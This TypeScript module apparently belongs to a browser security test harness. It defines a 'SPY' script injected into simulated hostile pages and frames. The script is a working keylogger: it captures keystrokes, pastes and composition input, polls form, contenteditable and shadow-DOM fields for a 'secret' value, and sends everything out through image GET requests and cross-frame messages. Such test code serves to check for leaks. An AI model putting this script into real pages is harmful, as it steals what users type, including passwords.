import { SEEN_PATH } from "../site-log.ts";

/** What the page marks when its first script begins: before that neither it nor a person in it can do anything. */
export const FIRST_SCRIPT = "first-script";

/**
 * The first script of every hostile page and frame: notes all that any script of a page can learn of
 * what is typed, from the first moment on, in `seen`, and sends it away by GET, which nobody stops.
 */
export const SPY = `
  performance.mark("${FIRST_SCRIPT}");
  window.seen ??= (parent !== window && tryTop()) || [];
  function tryTop() { try { return parent.seen; } catch { return undefined; } }
  const note = (what) => {
    seen.push(what);
    new Image().src = "${SEEN_PATH}" + encodeURIComponent(what);
    if (parent !== window) parent.postMessage({ seen: what }, "*");
  };
  addEventListener("message", ({ data }) => { if (data?.seen) seen.push(data.seen); });
  for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input", "textInput", "paste",
    "compositionstart", "compositionupdate", "compositionend", "change"])
    addEventListener(type, (event) => {
      const pasted = event.clipboardData?.getData("text");
      note(type + " " + (event.key ?? event.data ?? pasted ?? event.target.value ?? ""));
    }, true);
  const values = new WeakMap();
  const fields = (root) => [...root.querySelectorAll("*")].flatMap((one) =>
    one.shadowRoot ? fields(one.shadowRoot)
    : one.matches("input, textarea") ? [one]
    : one.isContentEditable ? [one] : []);
  setInterval(() => {
    for (const field of [...fields(document), ...(window.hidden ?? [])]) {
      const value = field.value ?? field.textContent;
      if (value && value !== values.get(field) && field.id === "secret") note("value " + value);
      values.set(field, value);
    }
  }, 10);
`;
